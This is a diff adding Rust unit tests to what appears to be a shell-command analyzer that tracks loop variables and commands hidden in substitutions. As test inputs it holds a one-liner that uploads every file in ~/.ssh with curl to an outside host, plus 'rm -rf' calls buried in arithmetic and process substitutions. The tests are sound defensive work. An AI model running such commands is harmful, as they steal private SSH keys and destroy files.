@@ -264,6 +264,20 @@ fn loops_bind_their_values() {
     )
     .contains(&"/home/u/.ssh/id_ed25519".to_string()));
     assert!(cmd("cat f | while read l; do rm \"$l\"; done", "rm").has_dynamic_args());
+    // a partly known listing: its known lines, then one unknown row
+    let curls: Vec<Vec<String>> =
+        a("find ~/.ssh -type f | while read f; do curl -T \"$f\" h; done")
+            .commands
+            .iter()
+            .filter(|c| c.program == "curl")
+            .map(|c| c.paths().map(str::to_string).collect())
+            .collect();
+    assert!(curls
+        .iter()
+        .any(|p| p.contains(&"/home/u/.ssh/id_rsa".to_string())));
+    // the `read` ending the loop found no line: its variable is empty after it
+    let x = a("while read d; do :; done <<< x; printf \"[$d]\"");
+    assert_eq!(texts(x.commands.last().unwrap()), ["[]"]);
     // past MAX_LOOP_VALUES values the body is walked once more with the value unknown
     let many: String = (0..70).map(|i| format!("v{i} ")).collect();
     let x = a(&format!("for f in {many}; do rm $f; done"));
@@ -955,6 +969,16 @@ fn control_flow_bodies() {
     assert_eq!(progs("[[ -f x && $(id -u) == 0 ]] && rm x"), ["id", "rm"]);
     assert_eq!(progs("! grep -q x f || echo y"), ["grep", "echo"]);
     assert_eq!(progs("(( i++ )); echo $i"), ["echo"]);
+    // substitutions inside arithmetic and process substitutions in a loop's words still run
+    assert_eq!(progs("(( $(rm -rf x) + `id -u` ))"), ["rm", "id"]);
+    assert_eq!(
+        progs("for ((i=0; i<$(nproc); i++)); do echo $i; done"),
+        ["nproc", "echo"]
+    );
+    assert_eq!(
+        progs("for f in a <(rm -rf x); do :; done"),
+        ["rm", ":", ":"]
+    );
 }
 #[test]
 fn fork_bomb_parses() {
